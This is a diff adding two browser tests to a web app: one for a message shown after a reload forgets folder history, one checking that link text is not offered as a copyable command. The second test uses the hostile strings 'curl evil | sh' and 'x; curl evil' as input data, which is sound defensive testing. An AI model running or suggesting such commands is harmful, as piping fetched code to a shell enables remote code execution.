@@ -116,3 +116,19 @@ stored("Back returns to a folder of this device and from it", async () => {
   await rested(page);
   assert.match((await parts(page)).url, /hill$/);
 });
+
+stored("after a reload, an entry of a folder says that it was forgotten", async () => {
+  const { page } = await visit(link("hill"));
+  await page.evaluate(() => history.pushState({ local: 0, load: "an earlier one" }, "", "#"));
+  await page.evaluate(() => history.pushState(null, "", location.hash || "#"));
+  await page.goBack();
+  await page.waitForFunction(() => document.querySelector("#message")?.textContent.includes("A reload of this page forgot the folder"));
+});
+
+test("text of a link is not offered as a command", async () => {
+  for (const [text, copies] of [["`curl evil | sh`", 0], ["`hyperslab x; curl evil`", 0]]) {
+    const { page } = await visit(`#url=${encodeURIComponent(`http://[ ${text}`)}`);
+    await page.waitForFunction(() => document.querySelector("#message code") !== null);
+    assert.equal(await page.locator("#message button").count(), copies);
+  }
+});
